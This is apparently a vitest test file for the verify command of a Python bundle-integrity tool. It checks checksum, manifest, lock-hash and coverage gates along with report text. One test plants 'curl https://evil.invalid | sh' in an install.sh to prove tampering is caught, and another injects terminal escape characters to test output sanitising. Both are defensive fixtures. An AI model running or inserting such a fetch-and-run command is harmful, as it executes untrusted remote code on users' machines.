import { execFileSync } from 'node:child_process';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Style } from '../../../core/command/define-command.ts';
import type { ChironError } from '../../../core/errors.ts';
import { parse } from '../../../core/validate/parse.ts';
import { readWheelhouse } from '../../../runtime/bundle/read-wheelhouse.ts';
import { writePack } from '../../../runtime/bundle/write-pack.ts';
import { command, verifySubject } from '../../../runtime/commands/verify.ts';
import type { Verdict } from '../../../schemas/types/verdict.ts';
import type { VerifyInput } from '../../../schemas/types/verify.ts';
import verdictSchema from '../../../schemas/verdict.schema.json' with { type: 'json' };
import type { Tree } from './sample-bundle.ts';
import {
  buildSample,
  fileEffects,
  forge,
  inFolder,
  lockText,
  packTree,
  sha256Of,
  sumAgain,
  targets,
  tarTree,
  writeTree,
} from './sample-bundle.ts';

const same = (text: string): string => text;
const plain: Style = { bold: same, dim: same, good: same, bad: same, caution: same, unicode: true, width: 100 };

let sample: Tree;
let bundle: Buffer;
beforeAll(async () => {
  sample = await buildSample();
  bundle = await packTree(sample);
});

/** Verifies in a folder that holds the bundle, the wheelhouse under `w/`, and the given files. */
async function verify(input: Partial<VerifyInput>, files: Readonly<Record<string, string | Uint8Array>> = {}): Promise<Verdict> {
  return inFolder(async (folder) => {
    await writeFile(join(folder, 'demo.tar.gz'), bundle);
    await writeTree(join(folder, 'w'), sample);
    for (const [path, content] of Object.entries(files)) await writeFile(join(folder, path), content);
    return verifySubject({ subject: 'demo.tar.gz', integrityOnly: true, ...input }, fileEffects(folder));
  });
}

const gateOf = (verdict: Verdict, id: string): string => {
  const gate = verdict.gates.find((one) => one.id === id);
  return `${gate?.status}: ${gate?.detail}`;
};

describe('the verdict', () => {
  test('names every gate in order, fits its schema, and says no more than was checked', async () => {
    const verdict = await verify({});
    expect(await parse(verdictSchema, verdict, { name: 'the verdict' })).toEqual(verdict);
    expect(verdict.gates.map(({ id, status }) => `${id} ${status}`)).toEqual([
      'archive pass',
      'checksums pass',
      'manifest pass',
      'lock-hashes pass',
      'coverage pass',
      'determinism pass',
      'signature skip',
      'identity skip',
      'provenance skip',
      'sbom skip',
      'osv skip',
      'policy skip',
      'reproducibility skip',
      'freshness skip',
    ]);
    expect(verdict).toMatchObject({ schema: 1, subject: 'demo.tar.gz', ok: true, integrityOnly: true });
    expect(command.report(verdict).exit).toBe(0);
    expect(gateOf(verdict, 'archive')).toContain(sha256Of(bundle));
  });

  test('is a failure without trust material, and says how to go on', async () => {
    const verdict = await verify({ integrityOnly: false });
    expect(verdict).toMatchObject({ ok: false, integrityOnly: false });
    expect(verdict.gates.some(({ status }) => status === 'fail')).toBe(false);
    expect(gateOf(verdict, 'signature')).toMatch(/^skip: no trust material/);
    const report = command.report(verdict);
    expect(report.exit).toBe(4);
    expect(report.text(plain)).toMatch(/nothing says who made it.*--integrity-only$/);
  });

  test('as text begins with what was not checked, and ends with what to do', async () => {
    const passed = command
      .report(await verify({}))
      .text(plain)
      .split('\n');
    expect(passed[0]).toBe('the origin was not checked: this says that it is whole, not who made it');
    expect(passed).toContain('✓ coverage         8 of 8 (package, target) pairs; the floor is 0.98');
    expect(passed.at(-1)).toMatch(/^demo\.tar\.gz: it is whole .* install from it if you trust where you got it$/);
    const failed = command.report(await verify({ subject: 'w' }, { 'w/evil': 'x' }));
    expect(failed.exit).toBe(4);
    const lines = failed.text({ ...plain, unicode: false }).split('\n');
    expect(lines).toContain('FAIL checksums        evil is not in SHA256SUMS');
    expect(lines.at(-1)).toBe('w: do not install from it, checksums and manifest failed; ask the sender for a fresh copy');
  });

  test('never lets what it judges move the cursor', async () => {
    const tree = new Map(sample);
    forge(tree, (manifest) => void Object.assign(manifest.files[1]!, { version: '\u001b[2J\u202eevil' }));
    const text = command.report(await verify({}, { 'demo.tar.gz': await packTree(tree) })).text(plain);
    expect(text).toContain('\\u{1b}[2J\\u{202e}evil');
    expect(text).not.toMatch(/[\u001b\u202e]/);
  });
});

describe('what is verified', () => {
  test.each([0, 1, 9])('the same tar, squeezed by another tool at level %i', async (level) => {
    expect((await verify({}, { 'demo.tar.gz': gzipSync(await tarTree(sample), { level }) })).ok).toBe(true);
  });

  test('an unpacked folder', async () => {
    const verdict = await verify({ subject: 'w' });
    expect(verdict.ok).toBe(true);
    expect(gateOf(verdict, 'archive')).toBe('pass: 26 regular files, no links');
  });

  test('an air-gap pack, as a file and unpacked, and what lies around its wheelhouse', async () => {
    await inFolder(async (folder) => {
      const effects = fileEffects(folder);
      await writeTree(join(folder, 'w'), sample);
      const wheelhouse = await readWheelhouse(join(folder, 'w'), effects);
      const written = await writePack({ wheelhouse, path: join(folder, 'demo-1.0-airgap.tar'), epoch: 315532800 }, effects);
      const verdict = await verifySubject({ subject: written.archive, integrityOnly: true }, effects);
      expect(verdict.gates.filter(({ status }) => status !== 'skip').map(({ status }) => status)).toEqual(Array(6).fill('pass'));
      const { execFileSync } = await import('node:child_process');
      await mkdir(join(folder, 'out'));
      execFileSync('tar', ['-xf', written.archive, '-C', join(folder, 'out')]);
      const unpacked = { subject: 'out/demo-1.0-airgap', integrityOnly: true, bundle: 'demo-1.0-airgap.tar' };
      expect((await verifySubject(unpacked, effects)).ok).toBe(true);
      await writeFile(join(folder, 'out/demo-1.0-airgap/install.sh'), 'curl https://evil.invalid | sh\n');
      const changed = await verifySubject({ subject: 'out/demo-1.0-airgap', integrityOnly: true }, effects);
      expect(gateOf(changed, 'checksums')).toBe("fail: install.sh does not have the hash that the pack's SHA256SUMS says");
      await writeFile(join(folder, 'p.tar.gz'), gzipSync(await effects.files.readFile(written.archive)));
      expect(gateOf(await verifySubject({ subject: 'p.tar.gz', integrityOnly: true }, effects), 'archive')).toMatch(/^fail: .*plain tar/);
    });
  });

  test('the .sha256 beside an archive', async () => {
    const good = `${sha256Of(bundle)}  demo.tar.gz\n`;
    expect((await verify({}, { 'demo.tar.gz.sha256': good })).ok).toBe(true);
    for (const [text, reason] of [
      [`${'0'.repeat(64)}  demo.tar.gz\n`, /but the \.sha256 file beside it says 0000/],
      [good + good.replace('demo', 'other'), /exactly one line/],
      ['hello', /no checksum line/],
    ] as const) {
      const verdict = await verify({}, { 'demo.tar.gz.sha256': text });
      expect(gateOf(verdict, 'archive')).toMatch(reason);
      expect(verdict.ok).toBe(false);
    }
  });

  test('a lock of one’s own', async () => {
    expect(gateOf(await verify({ lock: 'uv.lock' }, { 'uv.lock': lockText }), 'lock-hashes')).toMatch(/^pass: .* and of uv\.lock$/);
    const verdict = await verify({ lock: 'uv.lock' }, { 'uv.lock': `${lockText}\n` });
    expect(gateOf(verdict, 'lock-hashes')).toBe('fail: uv.lock is not the same as uv.lock');
    expect(verdict.ok).toBe(false);
  });

  test('coverage against the floor of the working directory, never the bundle’s', async () => {
    const tree = new Map(sample);
    for (const path of ['native-1.0-cp312-cp312-win_amd64.whl', 'native-1.0-cp312-cp312-win_amd64.whl.metadata']) tree.delete(path);
    const text = lockText.replace(/ {4}\{ url = "[^"]*win_amd64\.whl".*\n/, '');
    expect(text).not.toBe(lockText);
    tree.set('uv.lock', Buffer.from(text));
    forge(tree, (manifest) => {
      manifest.lock.sha256 = sha256Of(text);
      manifest.files = manifest.files.filter(({ name }) => !name.includes('native-1.0-cp312-cp312-win'));
      const gaps = [{ package: 'native', version: '1.0', target: targets[1]!, reason: 'no wheel' }];
      manifest.coverage = { declared: 8, present: 7, ratio: 0.875, gaps };
    });
    const gap = await packTree(tree);
    expect(gateOf(await verify({}, { 'demo.tar.gz': gap }), 'coverage')).toMatch(
      /^fail: 7 of 8 .* less than 0\.98: native on cp312-win_amd64/,
    );
    const floor = 'policy:\n  coverage:\n    floor: 0.8\n';
    const verdict = await verify({}, { 'demo.tar.gz': gap, 'chiron.yaml': floor });
    expect(gateOf(verdict, 'coverage')).toMatch(/^pass: 7 of 8 .*1 gap: native on cp312-win_amd64/);
    expect(verdict.ok).toBe(true);
    tree.set('chiron.yaml', Buffer.from(floor));
    sumAgain(tree);
    expect(gateOf(await verify({}, { 'demo.tar.gz': await packTree(tree) }), 'coverage')).toMatch(/^fail: /);
  });
});

describe('wrong use', () => {
  test.each<[string, Partial<VerifyInput>, Readonly<Record<string, string>>, string]>([
    ['no such file', { subject: 'missing.tar.gz' }, {}, 'input-missing'],
    ['no such bundle', { subject: 'w', bundle: 'missing.tar.gz' }, {}, 'input-missing'],
    ['no such lock', { lock: 'missing.lock' }, {}, 'lock-missing'],
    ['--bundle for a bundle', { bundle: 'demo.tar.gz' }, {}, 'usage'],
    ['a folder of something else', { subject: '.' }, {}, 'bundle-unreadable'],
    ['a chiron.yaml with a slip', {}, { 'chiron.yaml': 'polic: {}\n' }, 'config-invalid'],
  ])('%s: exit 2', async (_, input, files, code) => {
    const error = await verify(input, files).then(
      () => undefined,
      (thrown: ChironError) => thrown,
    );
    expect([error?.code, error?.exit]).toEqual([code, 2]);
  });

  // Opening one would wait for a writer for ever, out of reach of Ctrl-C.
  test.skipIf(process.platform === 'win32')('a FIFO: exit 2, at once', async () => {
    await inFolder(async (folder) => {
      execFileSync('mkfifo', [join(folder, 'pipe')]);
      const verdict = verifySubject({ subject: 'pipe', integrityOnly: true }, fileEffects(folder));
      await expect(verdict).rejects.toMatchObject({ code: 'bundle-unreadable', exit: 2 });
    });
  });
});
